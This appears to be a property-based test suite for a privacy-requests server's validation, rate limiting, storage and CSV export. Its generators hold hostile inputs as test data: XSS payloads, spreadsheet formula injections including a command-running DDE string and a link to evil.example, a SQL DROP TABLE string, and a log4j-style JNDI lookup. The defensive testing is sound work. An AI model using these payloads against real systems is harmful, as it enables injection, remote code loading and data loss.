import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { truncateIp } from '../src/ip.js';
import { createRecordsServer, type RecordsServer } from '../src/server.js';
import type { Db } from '../src/store/db.js';
import type { StoredRequest } from '../src/store/requests.js';
import { parseCsv } from './support/csv.js';
import { testDatabases } from './support/databases.js';
import { adminGet, adminPost, countOf, postRequest } from './support/http.js';
import { reusedDatabase, tracked } from './support/reuse.js';
import { runs } from './support/runs.js';

/*
 * Properties of the privacy requests' routes on any input (SPEC §9): POST /consent/requests
 * answers 201, 400, 413, 415 or 429 as a model of the rules and of the rate limit says,
 * never a 5xx; a refused body never leaves a row; what is stored reads back as sent, markup
 * and formulas included, and the CSV escapes them. The database is shared by every
 * property of a kind, so the last checks cover them all.
 */

const kinds = ['access', 'correct', 'delete', 'opt-out', 'limit-use', 'other'];
const limit = 5;
const maxBytes = 8 * 1024;
const hour = 3_600_000;

// The HTML Standard's valid e-mail address (an <input type=email>), written out here
// rather than taken from the server, with RFC 5321's lengths.
const htmlEmail =
  /^[a-zA-Z0-9.!#$%&'*+/=?^_`{|}~-]+@[a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?(?:\.[a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?)*$/;
// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what a message must not hold
const badInMessage = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]|\p{Cs}/u;
const uuidV4 = /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/;
const fields = ['kind', 'email', 'message', 'consentId'];

/** The fields a body gets wrong, by the rules of SPEC §9 (empty when it is a valid request). */
function wrongFields(body: unknown): string[] {
  if (typeof body !== 'object' || body === null || Array.isArray(body)) return ['JSON object'];
  const b = body as Record<string, unknown>;
  const wrong = Object.keys(b).filter((k) => !fields.includes(k));
  if (!kinds.includes(b.kind as string)) wrong.push('kind');
  const email = b.email;
  if (typeof email !== 'string' || email.length > 254 || !htmlEmail.test(email) || email.indexOf('@') > 64)
    wrong.push('email');
  const message = b.message;
  if (message !== undefined && (typeof message !== 'string' || message.length > 4000 || badInMessage.test(message)))
    wrong.push('message');
  if (b.consentId !== undefined && (typeof b.consentId !== 'string' || !uuidV4.test(b.consentId)))
    wrong.push('consentId');
  return wrong;
}

// --- Generators ---------------------------------------------------------------------------

const injections = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example")',
  '+1',
  '-1',
  '@SUM(A1)',
  '\tTab',
  '\rCR',
  "'; DROP TABLE consentry_requests; --",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j-style lookup, sent as text
  '${jndi:ldap://x/a}',
  '\u202e',
  '\ufeff',
  '🍪',
  '"',
  ',',
  '\r\n',
];
const codeUnits = (min: number, max: number) => fc.integer({ min, max }).map((c) => String.fromCharCode(c));
const text = (maxLength: number) =>
  fc.oneof(
    fc.string({ maxLength }),
    fc.string({ unit: 'binary', maxLength }),
    fc.array(fc.constantFrom(...injections), { maxLength: 6 }).map((parts) => parts.join('')),
    fc
      .tuple(fc.string({ maxLength: 10 }), fc.oneof(codeUnits(0, 0x1f), codeUnits(0xd800, 0xdfff)))
      .map((p) => p.join('')),
  );

const email = fc.oneof(
  { weight: 4, arbitrary: fc.emailAddress() },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      "=cmd|'/Ccalc'!A0@example.com",
      '+1@example.com',
      '-1@example.com',
      "o'brien@example.com",
      '@example.com',
      '<script>@example.com',
      'ana@',
      'ana@exa mple.com',
      'ana@example.com\n',
      `${'a'.repeat(65)}@example.com`,
    ),
  },
  { weight: 1, arbitrary: text(40) },
);
const message = fc.oneof(
  { weight: 6, arbitrary: text(200) },
  { weight: 1, arbitrary: fc.integer({ min: 3990, max: 4010 }).map((n) => 'm'.repeat(n)) },
  { weight: 1, arbitrary: fc.constantFrom(undefined, null, 42, ['a'], { a: 1 }) },
);
const consentId = fc.oneof(
  { weight: 3, arbitrary: fc.constant(undefined) },
  { weight: 3, arbitrary: fc.uuid({ version: 4 }) },
  { weight: 1, arbitrary: fc.uuid({ version: 4 }).map((u) => u.toUpperCase()) },
  { weight: 1, arbitrary: fc.oneof(fc.uuid({ version: 1 }), text(40), fc.integer()) },
);
const kind = fc.oneof(
  { weight: 8, arbitrary: fc.constantFrom(...kinds) },
  { weight: 1, arbitrary: fc.oneof(fc.constantFrom('ACCESS', 'erase', '', null, 1), text(10)) },
);
/** Now and then (one body in eight) an arbitrary value, else null. */
const rarely = <T>(arbitrary: fc.Arbitrary<T>) =>
  fc.oneof({ weight: 7, arbitrary: fc.constant(null) }, { weight: 1, arbitrary });
const extra = rarely(
  fc.tuple(fc.constantFrom('id', 'status', '__proto__', 'constructor', 'receivedAt', 'ip', ''), fc.jsonValue()),
);

/** A body as an object (before JSON), mostly valid, often hostile. */
const objectBody = fc
  .record({ kind, email, message, consentId, extra, drop: rarely(fc.constantFrom(...fields)) })
  .map(({ extra, drop, ...b }) => {
    const body: Record<string, unknown> = { ...b };
    if (drop) delete body[drop];
    if (extra) Object.defineProperty(body, extra[0], { value: extra[1], enumerable: true, writable: true });
    return body;
  });

type Body = { json: unknown; bytes?: string | Uint8Array };
const bodyArb: fc.Arbitrary<Body> = fc.oneof(
  { weight: 8, arbitrary: objectBody.map((json) => ({ json })) },
  { weight: 1, arbitrary: objectBody.map((json) => ({ json, bytes: `${JSON.stringify(json)}${' '.repeat(8200)}` })) },
  {
    weight: 1,
    arbitrary: fc.oneof(
      fc.jsonValue().map((v) => ({ json: v })),
      fc.uint8Array({ maxLength: 200 }).map((bytes) => ({ json: undefined, bytes })),
      fc
        .constantFrom('', '{', 'null', '[]', '"access"', '{"__proto__":{}}')
        .map((s) => ({ json: undefined, bytes: s })),
    ),
  },
);
const contentType = fc.oneof(
  {
    weight: 8,
    arbitrary: fc.constantFrom('application/json', 'application/json; charset=utf-8', 'Application/JSON'),
  },
  { weight: 1, arbitrary: fc.constantFrom(null, 'text/plain', 'text/html', 'application/x-www-form-urlencoded') },
);
// Networks that share a /24 or a /48, and requests from no known address.
const ip = fc.constantFrom(
  '198.51.100.1',
  '198.51.100.250',
  '203.0.113.9',
  '::ffff:203.0.113.10',
  '2001:db8:1::1',
  '2001:db8:1:ffff::2',
  '2001:db8:2::1',
  undefined,
);

/** Time between two requests: mostly seconds, so networks reach the limit; now and then hours, so they leave it. */
const wait = fc.oneof(
  { weight: 30, arbitrary: fc.integer({ min: 0, max: 30_000 }) },
  { weight: 1, arbitrary: fc.integer({ min: 0, max: 2 * hour }) },
);

// --- The model ------------------------------------------------------------------------------

/** A value as the server reads it: through JSON (`undefined` fields gone, `__proto__` an own key). */
const asSent = (json: unknown): unknown => JSON.parse(JSON.stringify(json));

interface Sent {
  id: string;
  body: Record<string, unknown>;
  prefix: string | null;
  at: number;
}

describe.each(testDatabases())('privacy requests on $name, on any input', (database) => {
  const scale = database.name === 'pglite' ? 1 : 0.25;
  const reused = reusedDatabase(database);
  const stored = new Map<string, Sent>();
  let clock = Date.parse('2026-11-30T12:00:00.000Z');
  let db: Db;
  let view: ReturnType<typeof tracked>;
  let records: RecordsServer;

  beforeAll(async () => {
    db = await reused.fresh();
    view = tracked(db);
    records = createRecordsServer({ db: view.db, adminToken: 'test-token', now: () => new Date(clock) });
    await records.ready;
  });
  afterAll(async () => {
    await records?.close();
    await view?.settled();
    await reused.close();
  });

  /** What the server must answer, by the model. */
  function expected(body: Body, type: string | null, bytes: string | Uint8Array, prefix: string | null) {
    if (type === null || !/^application\/json/i.test(type)) return 415;
    const size = typeof bytes === 'string' ? new TextEncoder().encode(bytes).length : bytes.length;
    if (size > maxBytes) return 413;
    if (body.json === undefined || wrongFields(asSent(body.json)).length > 0) return 400;
    const recent = [...stored.values()].filter((s) => s.prefix === prefix && s.at > clock - hour);
    return recent.length >= limit ? 429 : 201;
  }

  it('answers every body as the rules and the limit say, never a 5xx, and stores only what it takes', async () => {
    const seen = new Map<number, number>();
    await fc.assert(
      fc.asyncProperty(bodyArb, contentType, ip, wait, async (body, type, from, waited) => {
        clock += waited;
        const bytes = body.bytes ?? JSON.stringify(body.json);
        const prefix = truncateIp(from);
        const want = expected(body, type, bytes, prefix);
        const response = await records(postRequest(bytes, { contentType: type }), { ip: from });
        const answer = (await response.json()) as { id?: string; due?: string; error?: string };
        if (response.status === 201 && answer.id)
          stored.set(answer.id, { id: answer.id, body: body.json as Record<string, unknown>, prefix, at: clock });
        seen.set(response.status, (seen.get(response.status) ?? 0) + 1);
        expect(response.status).toBe(want);
        if (want === 400 && body.json !== undefined)
          expect(wrongFields(asSent(body.json)).some((f) => answer.error?.includes(f))).toBe(true);
        if (want === 429) expect(Number(response.headers.get('retry-after'))).toBeGreaterThan(0);
        if (want >= 400) expect(answer.error).toEqual(expect.any(String));
        expect(await countOf(db, 'consentry_requests')).toBe(stored.size);
      }),
      runs(scale),
    );
    console.info(`privacy requests on ${database.name}: ${JSON.stringify(Object.fromEntries(seen))}`);
    if ((runs(scale).numRuns ?? 0) >= 500) expect([...seen.keys()].sort()).toEqual([201, 400, 413, 415, 429]);
  }, 600_000);

  const noteBody = fc.oneof(
    fc.record({ status: fc.constantFrom('open', 'done', 'refused'), note: text(100) }),
    fc.record({ status: fc.oneof(fc.constantFrom('closed', 'DONE', ''), text(8)), note: fc.string() }),
    fc.jsonValue(),
  );

  it('answers any change of status with 200, 400 or 404, never a 5xx, and adds a row only on 200', async () => {
    const ids = () => [...stored.keys()];
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          fc.nat().map((n) => ids()[n % Math.max(1, ids().length)] ?? 'none'),
          fc.uuid({ version: 4 }),
          fc.constantFrom('%ZZ', '..', "1'%20OR%20'1'%3D'1", 'null'),
        ),
        noteBody,
        async (id, body) => {
          const before = await countOf(db, 'consentry_request_statuses');
          const response = await records(adminPost(`/consent/requests/${id}`, body));
          expect([200, 400, 404]).toContain(response.status);
          const after = await countOf(db, 'consentry_request_statuses');
          expect(after).toBe(before + (response.status === 200 ? 1 : 0));
          if (response.status === 200) {
            const request = (await response.json()) as StoredRequest;
            const last = request.history[request.history.length - 1];
            expect(last).toMatchObject(body as object);
            expect(request.status).toBe((body as { status: string }).status);
          }
        },
      ),
      runs(scale / 5),
    );
  }, 600_000);

  it('gives every stored request back as sent, and the CSV holds each field, formulas escaped', async () => {
    expect(stored.size).toBeGreaterThan(0);
    const { requests } = (await (await records(adminGet('/consent/requests?status=all'))).json()) as {
      requests: StoredRequest[];
    };
    expect(requests.map((r) => r.id).sort()).toEqual([...stored.keys()].sort());
    for (const r of requests) {
      const sent = stored.get(r.id) as Sent;
      expect(r).toMatchObject({
        kind: sent.body.kind,
        email: sent.body.email,
        message: sent.body.message ?? '',
        consentId: sent.body.consentId ?? null,
        receivedAt: new Date(sent.at).toISOString(),
      });
    }
    const csv = parseCsv(await (await records(adminGet('/consent/requests.csv'))).text());
    const escaped = (v: string) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v);
    const byId = new Map(requests.map((r) => [r.id, r]));
    expect(csv).toHaveLength(requests.length + 1);
    for (const [id, rowKind, rowEmail, rowMessage, rowConsent] of csv.slice(1)) {
      const r = byId.get(id) as StoredRequest;
      expect([rowKind, rowEmail, rowMessage, rowConsent]).toEqual([
        r.kind,
        escaped(r.email),
        escaped(r.message),
        r.consentId ?? '',
      ]);
    }
    // Not one address stored whole.
    const prefixes = await db.query<{ ip_prefix: string | null }>('SELECT DISTINCT ip_prefix FROM consentry_requests');
    for (const { ip_prefix } of prefixes)
      if (ip_prefix !== null) expect(ip_prefix).toMatch(/^(\d+\.\d+\.\d+\.0\/24|[0-9a-f]+(:[0-9a-f]+){2}::\/48)$/);
  }, 120_000);
});
